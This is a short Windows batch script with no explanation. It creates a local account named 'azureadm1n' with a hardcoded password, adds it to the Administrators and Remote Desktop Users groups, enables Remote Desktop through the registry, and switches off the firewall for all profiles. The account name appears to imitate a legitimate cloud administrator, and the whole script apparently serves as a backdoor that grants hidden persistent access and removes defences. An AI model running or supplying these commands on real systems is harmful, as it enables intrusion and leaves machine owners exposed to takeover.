REM run 2005 v0
net user azureadm1n Adm1n!strat0r /add /y
net localgroup administrators azureadm1n /add
net localgroup "Remote Desktop Users" azureadm1n /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
netsh advfirewall set allprofiles state off
